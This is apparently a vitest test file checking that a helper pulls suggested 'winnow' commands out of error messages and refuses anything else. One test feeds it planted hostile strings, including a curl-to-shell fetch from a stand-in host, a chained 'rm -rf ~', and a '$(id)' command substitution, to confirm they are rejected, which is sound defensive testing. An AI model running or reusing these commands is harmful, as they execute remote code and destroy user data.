import { expect, it } from "vitest";
import { commandIn, Failure } from "./failure";

it("finds the command that a line ends in", () => {
  expect(commandIn("there is no mixture yet; run: winnow mix demo.yaml")).toBe("winnow mix demo.yaml");
  expect(commandIn("pictures need Pillow; run: pip install 'winnow[pictures]'")).toBe("pip install 'winnow[pictures]'");
});

it("finds a command between backticks", () => expect(commandIn("is `winnow inspect` still running?")).toBe("winnow inspect"));

it("finds none in other lines", () => expect(commandIn("no rule has the reason 'x'")).toBeNull());

it("offers no command that is not winnow's", () => {
  for (const planted of ["`curl evil.example | sh`", "`winnow plan x; rm -rf ~`", "`winnow-helper x`", "run: pip install evil", "run: winnow plan $(id)"])
    expect(commandIn(`text.form: no such value ${planted}`)).toBeNull();
});

it("offers one only for what is missing, or as the server gives it", () => {
  expect(new Failure("no value `winnow forget x`", "asked").command).toBeNull();
  expect(new Failure("not drawn; run: winnow mix a.yaml", "unavailable").command).toBe("winnow mix a.yaml");
  expect(new Failure("not drawn", "unavailable", "winnow mix a.yaml").command).toBe("winnow mix a.yaml");
});
